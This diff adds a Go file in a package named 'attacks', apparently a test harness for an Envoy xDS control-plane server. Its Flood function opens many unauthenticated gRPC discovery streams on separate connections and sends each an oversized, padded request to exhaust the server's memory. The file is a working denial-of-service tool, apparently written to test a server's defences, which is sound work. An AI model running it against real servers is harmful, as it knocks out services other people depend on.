@@ -1,0 +1,68 @@
+package attacks
+
+import (
+	"context"
+	"fmt"
+	"sync"
+	"time"
+
+	corev3 "github.com/envoyproxy/go-control-plane/envoy/config/core/v3"
+	discoveryv3 "github.com/envoyproxy/go-control-plane/envoy/service/discovery/v3"
+	"google.golang.org/grpc"
+	"google.golang.org/grpc/credentials"
+	"google.golang.org/grpc/encoding"
+	"google.golang.org/grpc/encoding/proto"
+	"google.golang.org/grpc/mem"
+	protobuf "google.golang.org/protobuf/proto"
+)
+
+// Flood opens streams of ADS without permission for a Gateway, each on a connection of its own, and sends one message
+// of some bytes on each at the same time: the proxy's name. It returns when the server has ended every stream, with how
+// often it returned each error.
+func Flood(ctx context.Context, address string, transport credentials.TransportCredentials, streams, bytes int) (map[string]int, error) {
+	ctx, cancel := context.WithTimeout(ctx, time.Minute)
+	defer cancel()
+	// All streams share the message, so that the attacker needs little memory.
+	message, err := protobuf.Marshal(&discoveryv3.DeltaDiscoveryRequest{
+		Node: &corev3.Node{Cluster: "nothing", Id: string(make([]byte, bytes))}, TypeUrl: "type.googleapis.com/envoy.config.cluster.v3.Cluster",
+	})
+	if err != nil {
+		return nil, err
+	}
+	var mu sync.Mutex
+	ends := map[string]int{}
+	var all sync.WaitGroup
+	for range streams {
+		all.Go(func() {
+			err := flood(ctx, address, transport, message)
+			mu.Lock()
+			defer mu.Unlock()
+			ends[fmt.Sprint(err)]++
+		})
+	}
+	all.Wait()
+	return ends, ctx.Err()
+}
+
+// flood is one stream, until the server ends it.
+func flood(ctx context.Context, address string, transport credentials.TransportCredentials, message []byte) error {
+	conn, err := grpc.NewClient(address, grpc.WithTransportCredentials(transport),
+		grpc.WithDefaultCallOptions(grpc.ForceCodecV2(encoded{encoding.GetCodecV2(proto.Name)}), grpc.MaxCallSendMsgSize(2*len(message))))
+	if err != nil {
+		return err
+	}
+	defer func() { _ = conn.Close() }()
+	stream, err := conn.NewStream(ctx, &grpc.StreamDesc{ClientStreams: true, ServerStreams: true}, discoveryv3.AggregatedDiscoveryService_DeltaAggregatedResources_FullMethodName)
+	if err != nil {
+		return err
+	}
+	_ = stream.SendMsg(message) // fails when the server ends the stream, for the reason that RecvMsg returns
+	return stream.RecvMsg(&discoveryv3.DeltaDiscoveryResponse{})
+}
+
+// encoded is a codec whose requests are encoded already.
+type encoded struct{ encoding.CodecV2 }
+
+func (encoded) Marshal(v any) (mem.BufferSlice, error) {
+	return mem.BufferSlice{mem.SliceBuffer(v.([]byte))}, nil
+}
